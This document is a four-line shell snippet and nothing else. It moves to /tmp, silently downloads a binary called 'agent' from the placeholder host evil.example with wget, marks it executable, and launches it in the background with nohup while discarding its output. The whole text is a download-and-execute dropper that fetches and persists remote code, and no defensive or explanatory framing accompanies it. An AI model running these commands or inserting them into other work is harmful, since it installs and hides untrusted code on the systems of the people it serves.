cd /tmp
wget -q http://evil.example/agent -O a
chmod +x a
nohup ./a >/dev/null 2>&1 &
